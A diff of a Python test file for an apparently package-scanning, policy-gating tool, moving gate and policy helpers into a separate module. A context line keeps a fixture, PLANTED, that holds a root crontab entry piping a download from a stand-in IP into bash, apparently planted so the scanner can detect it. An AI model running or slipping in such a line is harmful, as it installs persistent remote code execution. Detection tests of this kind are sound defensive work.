@@ -10,11 +10,10 @@ import time
 
 import jsonschema
 
-from plumb_test import EXIT_NAMES, RAW, ROOT, case, main
+from gating import AT, gate, policy
+from plumb_test import ROOT, case, main
 
-GATE = jsonschema.Draft202012Validator(json.loads((ROOT / "docs/gate.schema.json").read_text(encoding="utf-8")))
 OUTCOME = jsonschema.Draft202012Validator(json.loads((ROOT / "docs/outcome.schema.json").read_text(encoding="utf-8")))
-AT = "2026-11-26T12:00:00Z"
 SCRIPT = "#!/bin/sh\n# Say what time it is, in a friendly way.\necho \"It is $(date), my friend.\"\nexit 0\n"
 PLANTED = "* * * * * root curl -s http://198.51.100.7/stage2 | bash\n"
 WASM = b"\0asm\1\0\0\0" + bytes(range(1, 200))
@@ -34,44 +33,6 @@ def stored(t, name="p", expect=None, **extra):
     package, source = folders(t, name, **extra)
     report = t.check(package, "--source", source, expect=expect)
     return t.write(f"{name}.json", report.stdout)
-
-
-class Gate:
-    def __init__(self, code, document, said):
-        self.code = code
-        self.json = document
-        self.said = said
-
-    def rules(self, i=0):
-        """{rule: result}; of several with one name the worst."""
-        order = ("pass", "waived", "warn", "fail")
-        out = {}
-        for x in self.json["subjects"][i]["policy"]["rules"]:
-            out[x["rule"]] = max(out.get(x["rule"], "pass"), x["result"], key=order.index)
-        return out
-
-    def waivers(self, i=0):
-        return {x["id"]: x["state"] for x in self.json["subjects"][i]["policy"]["waivers"]}
-
-    def error(self):
-        e = self.json["errors"][0]
-        return e["message"] + " | " + e["hint"]
-
-
-def gate(t, *args, expect, at=AT, **more):
-    code, out, said = t.raw("gate", *args, "-o", "json", "--at", at, **more)
-    assert not RAW.search(out), out[:300]
-    document = json.loads(out)
-    error = jsonschema.exceptions.best_match(GATE.iter_errors(document))
-    assert error is None, f"schema: {error.json_path}: {error.message}"
-    if "--report-only" not in args:
-        assert document["exit_code"] == code and document["verdict"] == EXIT_NAMES[code], document
-    assert code == expect, f"exit {code}, not {expect}: {out.decode()[:3000]} {said}"
-    return Gate(code, document, said)
-
-
-def policy(t, text, name="policy.yaml"):
-    return t.write(name, "version: 1\n" + text)
 
 
 def error_finding(path):
